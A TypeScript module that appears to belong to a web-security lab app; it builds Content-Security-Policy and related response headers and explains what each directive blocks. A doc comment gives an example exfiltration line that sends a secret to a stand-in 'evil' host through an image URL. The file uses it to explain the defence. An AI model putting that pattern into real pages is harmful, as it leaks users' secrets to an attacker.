/**
 * The response headers of the app's own pages and modules. Pure functions: the values depend only
 * on the topology and on whether the CSP defence is on, so they can be tested without a server.
 */

export interface SecurityHeaderOptions {
  /** The app's origin as the browser sees it, e.g. `http://localhost:5173`. */
  readonly appUrl: string;
  /** The authorization server's origin, e.g. `http://127.0.0.1:4000`. */
  readonly authserverUrl: string;
  /** False when the defence `spa-csp` is weakened: the CSP header is then left out. */
  readonly contentSecurityPolicy: boolean;
  /**
   * Other origins the app's own scripts call with `fetch`. None with the BFF (everything goes
   * through the app's origin); the authorization server and the API in `public-client` mode,
   * where the browser runs the token requests and calls the API itself.
   */
  readonly connectTo?: readonly string[];
  /**
   * Whether the page talks to Vite's hot-reload websocket (the dev server, `LAB_SPA_SERVE=dev`;
   * the default). The built app has none, and its `connect-src` leaves the websocket out.
   */
  readonly hotReload?: boolean;
}

/**
 * A Content-Security-Policy that the app works under, built or on Vite's dev server: module
 * scripts from the app's own origin only (no inline script, no eval), and on the dev server the
 * HMR websocket on the same host and port.
 *
 * - `style-src 'unsafe-inline'`: Vite's error overlay writes a `<style>` element into its shadow
 *   root, which a stricter policy blocks. Lit's `static styles` use constructable stylesheets,
 *   which CSP does not restrict. Scripts stay strict: that is what stops an injected `<script>`.
 * - `connect-src`: `fetch` may reach the app's origin (where `/bff` and `/api` are) and the HMR
 *   websocket, nothing else: an injected script cannot post what it read to another site. In
 *   `public-client` mode also the authorization server and the API (`connectTo`), which the app
 *   calls itself; an injected script may call them too, but still cannot reach the attacker.
 * - `img-src 'self' data:`: no exfiltration through `new Image().src = 'https://evil/?' + secret`.
 * - `form-action`: forms may post to the app and to the authorization server, nowhere else.
 * - `frame-ancestors 'none'`: no other site can frame the app (clickjacking).
 * @see https://www.w3.org/TR/CSP3/
 */
export function buildContentSecurityPolicy(options: Pick<SecurityHeaderOptions, 'appUrl' | 'authserverUrl' | 'connectTo' | 'hotReload'>): string {
  const hmrSocket = options.hotReload === false ? [] : [options.appUrl.replace(/^http/, 'ws')];
  const connectTo = options.connectTo ?? [];
  const directives: Array<[string, ...string[]]> = [
    ['default-src', "'self'"],
    ['script-src', "'self'"],
    ['style-src', "'self'", "'unsafe-inline'"],
    ['img-src', "'self'", 'data:'],
    ['font-src', "'self'"],
    ['connect-src', "'self'", ...hmrSocket, ...connectTo],
    ['object-src', "'none'"],
    ['base-uri', "'none'"],
    ['form-action', "'self'", options.authserverUrl],
    ['frame-ancestors', "'none'"],
  ];
  return directives.map((directive) => directive.join(' ')).join('; ');
}

/** The headers for every response the app's origin serves itself (not the ones it forwards to the BFF). */
export function buildSecurityHeaders(options: SecurityHeaderOptions): Record<string, string> {
  const headers: Record<string, string> = {
    'X-Content-Type-Options': 'nosniff',
    'Referrer-Policy': 'strict-origin-when-cross-origin',
    // The older spelling of `frame-ancestors 'none'`; it stays when the CSP is weakened, so that
    // weakening `spa-csp` shows what the CSP itself stops and nothing else.
    'X-Frame-Options': 'DENY',
  };
  if (options.contentSecurityPolicy) headers['Content-Security-Policy'] = buildContentSecurityPolicy(options);
  return headers;
}
